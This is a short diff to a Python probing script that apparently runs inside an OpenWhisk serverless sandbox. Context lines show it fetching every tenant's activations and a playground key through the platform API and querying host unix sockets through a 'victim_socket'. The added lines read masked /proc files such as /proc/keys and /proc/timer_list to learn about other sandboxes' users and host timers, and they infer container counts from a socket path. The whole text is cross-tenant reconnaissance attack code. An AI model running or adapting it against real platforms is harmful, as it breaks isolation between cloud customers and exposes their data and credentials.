@@ -137,6 +137,12 @@ def main(a):
         "every_tenants_activations": attempt(lambda: api(os.environ["__OW_API_HOST"], a["key"], "/activation")),
         "playground_key": attempt(lambda: api(os.environ["__OW_API_HOST"], a["key"], "/playground/config.json")),
         "host_unix_sockets": attempt(lambda: host_unix_sockets(a["victim_socket"])),
+        # What other sandboxes' users hold keys (key-users), the host's timers (timer_list): hidden, as docker hides
+        # them; how many containers were started before this one: not in its folder's name.
+        "proc_masked": {path: attempt(lambda path=path: read(path) if os.path.isfile(path) else os.listdir(path))
+                        for path in ("/proc/key-users", "/proc/keys", "/proc/timer_list", "/proc/acpi")
+                        if os.path.exists(path)},
+        "own_folder": os.path.basename(os.path.dirname(os.environ["WHISK_PROXY_SOCKET"])),
     }
 '''
 
